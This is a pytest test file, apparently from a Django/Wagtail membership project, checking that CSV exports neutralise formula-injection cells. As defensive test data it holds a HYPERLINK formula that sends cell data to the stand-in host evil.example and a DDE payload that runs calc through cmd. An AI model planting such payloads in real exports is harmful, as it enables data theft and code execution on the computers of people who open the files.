"""Finding 8: CSV exports neutralise cells a spreadsheet would run as a formula."""

import csv
import io

import pytest
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from unionhome.core.spreadsheet import neutralise_cell
from unionhome.membership.models import Membership

pytestmark = pytest.mark.django_db

DANGEROUS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_start_a_formula_are_prefixed(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张伟", "a=b", "", "WM000001", 5, -5, None])
def test_other_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_member_directory_csv_export_neutralises_formulas(client, demo):
    rider = Membership.objects.get(user=demo["riders"][0])
    rider.full_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rider.platform = "@SUM(1+1)*cmd|' /C calc'!A0"
    rider.save(update_fields=["full_name", "platform"])
    client.force_login(demo["union_admin"])
    exported = rows(client.get("/admin/members/?export=csv"))
    cells = [cell for row in exported for cell in row]
    assert "'" + rider.full_name in cells
    assert "'" + rider.platform in cells
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)


def test_every_admin_csv_export_goes_through_the_neutraliser():
    """Wagtail's exporter (model viewsets, form submissions) writes CSV rows in one method;
    the project's version of it is the one every export uses."""
    out = io.StringIO()

    class Echo:
        def write(self, value):
            out.write(value)
            return value

    view = SpreadsheetExportMixin()
    view.list_export = ["a", "b"]
    writer = csv.DictWriter(Echo(), fieldnames=["a", "b"])
    view.write_csv_row(writer, {"a": "=cmd()", "b": "ok"})
    assert out.getvalue().strip() == "'=cmd(),ok"
